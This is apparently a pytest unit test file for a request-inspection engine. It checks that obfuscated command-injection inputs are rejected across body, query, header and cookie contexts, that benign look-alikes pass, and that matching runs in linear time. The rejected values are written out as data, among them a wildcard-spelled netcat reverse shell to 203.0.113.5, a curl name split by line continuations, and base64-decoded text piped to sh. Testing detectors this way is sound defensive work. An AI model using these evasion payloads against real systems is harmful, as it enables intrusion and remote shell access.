"""Unit: ``cmd_spelled`` — a command spelled so that only a shell reads it: a system binary named by a wildcard path,
a command name split by line continuations, text echoed into a shell. Values are our own."""

from __future__ import annotations

import time

import pytest

from bastion.detection import Context, Engine

CONTEXTS = [Context("body", "comment"), Context("query", "q"), Context("header", "x-note"), Context("cookie", "c")]


@pytest.fixture(scope="module")
def engine() -> Engine:
    return Engine()


REJECTED = {
    "wildcard binary path": [
        "/usr/bin/wh?ami",
        "/usr/bin/n[c] -e /bin/sh 203.0.113.5 4444",
        "/bin/c*t /etc/hosts",
        "/usr/sbin/ifc?nfig",
        "/usr/local/bin/p[y]thon3 -c x",
    ],
    "name split by line continuations": [
        "w\\\nho\\\nami",
        "un\\\name -a",
        "c\\\nu\\\nr\\\nl 203.0.113.5",
    ],
    "text echoed into a shell": [
        "echo 'uname -a' | sh",
        "printf 'id' | bash",
        "echo aWQ= | base64 -d | sh",
        "x; echo \"ls\\x09-la\"|bash -i",
        "echo di | rev | sh",
    ],
}

ACCEPTED = [
    "Check /var/log/*.log for errors",
    "ls /home/*/notes",
    "/usr/share/doc/*.gz",
    "/usr/local/bin/",
    "/usr/local/bin/*",
    "/usr/bin/?",
    "Is it /usr/bin/python3? or /bin/ls?",
    "Use /usr/bin/python3 -m venv to create it",
    "echo \"hello\" | less",
    "printf '%s\\n' a b | sort",
    "The first line \\\nand the second",
    "path C:\\\\new\\\\table",
    "echo the shell; sh is the Bourne shell",
]


@pytest.mark.parametrize("value", [v for vs in REJECTED.values() for v in vs])
@pytest.mark.parametrize("ctx", CONTEXTS, ids=lambda c: c[0])
def test_spelled_command_is_rejected(engine: Engine, value: str, ctx: Context) -> None:
    found = engine.inspect(value, ctx)
    assert found is not None and found.rule.attack == "cmdi", value


@pytest.mark.parametrize("value", ACCEPTED)
def test_look_alike_is_accepted(engine: Engine, value: str) -> None:
    assert engine.inspect(value, Context("body", "comment")) is None, value


@pytest.mark.parametrize("value", [
    "/usr/bin/" + "?" * 131_072,
    "/bin/a" + " x" * 65_000,
    "a\\\n" * 40_000,
    "echo " + "x" * 131_072 + " | sh",
    "echo |" * 20_000,
])
def test_spelled_command_is_linear(engine: Engine, value: str) -> None:
    start = time.process_time()
    engine.inspect(value, Context("body", "comment"))
    assert time.process_time() - start < 2.0
